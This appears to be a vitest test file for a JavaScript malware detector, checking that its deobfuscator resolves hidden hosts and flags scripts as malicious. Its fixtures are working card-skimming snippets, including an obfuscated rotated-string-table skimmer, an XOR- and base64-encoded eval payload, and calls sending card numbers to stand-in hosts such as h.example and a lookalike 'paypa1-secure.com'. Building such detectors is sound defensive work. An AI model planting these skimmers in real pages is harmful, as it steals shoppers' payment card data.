import type { Node } from 'acorn'
import { describe, expect, it } from 'vitest'
import { parseStrict } from '../../detector/parse.ts'
import { resolveStatically, type Known } from '../../detector/deobfuscate/partial.ts'
import { inspectScript } from '../../detector/index.ts'
import { collectLayer } from '../../detector/collect.ts'
import { emptyFacts } from '../../detector/facts.ts'

// The evaluator told what a first look already knew: a rewrite that only writes out those
// values is marked `known` and the tree is left as it was (nothing reparsed), so the caller
// can keep its first look instead of judging the same facts twice.

const INLINED = `var V = "2.4.1"; var ua = "lib/" + V; navigator.sendBeacon("/stats", ua + document.title)`
// the table is read after a rotation loop: only the evaluator, running the loop, knows the host
const ROTATED = `var t=['?d=','x','https://h.example/c'];(function(a,n){var r=function(k){while(--k){a.push(a.shift())}};r(++n)}(t,0x2));
var d=function(i){i=i-0x0;return t[i]};document.forms[0].addEventListener('submit',function(){
var c=document.querySelector('input[name="cc_number"]').value;fetch(d('0x0')+d('0x1')+btoa(c))})`

function resolve(source: string, known?: Known) {
  const ast = parseStrict(source) as Node
  return { ast, out: resolveStatically(ast, source, known) }
}

describe('evaluator rewrites of values a first look knew', () => {
  it('marks a rewrite known when every value written is known, and leaves the tree alone', () => {
    const asked: (string | number)[] = []
    const { ast, out } = resolve(INLINED, (_node, value) => {
      asked.push(value)
      return true
    })
    expect(out?.known).toBe(true)
    expect(out?.ast).toBe(ast)
    expect(out?.source).toContain('"lib/2.4.1"')
    expect(asked).toContain('lib/2.4.1')
  })

  it('rewrites in full when one value was not known', () => {
    const { out } = resolve(INLINED, () => false)
    expect(out?.known).toBeUndefined()
    expect(out?.source).toContain('"lib/2.4.1"')
  })

  it('asks about each value with the expression it replaces', () => {
    const seen: string[] = []
    resolve(ROTATED, (node, value) => {
      seen.push(`${ROTATED.slice(node.start, node.end)} => ${value}`)
      return false
    })
    expect(seen).toContain("d('0x0')+d('0x1') => https://h.example/c?d=")
  })

  it('without a caller that knows anything, rewrites as before', () => {
    const { out } = resolve(ROTATED)
    expect(out?.known).toBeUndefined()
    expect(out?.source).toContain('fetch("https://h.example/c?d="+btoa(c))')
  })

  it('a value only the evaluator finds still reaches the rules', () => {
    // the first look sees card values sent to a computed address; the evaluator names the host
    const v = inspectScript(ROTATED).verdict
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.message).join('\n')).toContain('https://h.example/c')
  })
})

describe('what the first look holds as text', () => {
  it("a concatenation's longest head that folds is a text, the one the evaluator writes", () => {
    const source = `var V = "2.4.1"
      function warn(o) { console.warn("[lib v" + V + "] option '" + o + "' is deprecated") }`
    const facts = emptyFacts(source, '')
    const ast = parseStrict(source) as Node
    collectLayer({ ast, source, depth: 0, outer: undefined }, facts, {
      bytesLeft: 1 << 20,
      evaluate: false,
    })
    expect(facts.strings.map((s) => s.value)).toContain("[lib v2.4.1] option '")
    const wrote: (string | number)[] = []
    resolve(source, (_node, value) => {
      wrote.push(value)
      return true
    })
    expect(wrote).toEqual(["[lib v2.4.1] option '"])
  })
})

describe('what the first look only has by folding is not known', () => {
  it('a host joined from names is read by the rules that read texts, not only by the folder', () => {
    const source = `var a = 'paypa1-', b = 'secure.com'; var data = $('#cc_number').val()
      new Image().src = 'https://' + a + b + '/c?d=' + data`
    expect(inspectScript(source).verdict.findings.map((f) => f.rule)).toContain('lookalike-domain')
  })

  it('a computed object key is a name, read as spelled', () => {
    const source = `var r = 'rl'; var n = $('#cc_number').val()
      jQuery.ajax({ ['u' + r]: 'https://collect.example/g', type: 'POST', data: { n: n } })`
    const read = inspectScript(source).verdict.findings.find(
      (f) => f.rule === 'card-field-read-and-send',
    )
    expect(read?.points).toBeGreaterThanOrEqual(45)
  })

  it('a decoded layer the first look did not evaluate is evaluated by the second', () => {
    const payload = `function d(k) { var s = ''; for (var i = 0; i < k.length; i++) s += String.fromCharCode(k[i] ^ 7); return s }
      new Image().src = d([${[...'https://paypa1-secure.com/c?d='].map((c) => c.charCodeAt(0) ^ 7).join(',')}]) + document.querySelector('#cc_number').value`
    const source = `var h = 'x'; window.t = h + 'y'; eval(atob('${Buffer.from(payload).toString('base64')}'))`
    expect(inspectScript(source).verdict.findings.map((f) => f.rule)).toContain('lookalike-domain')
  })
})
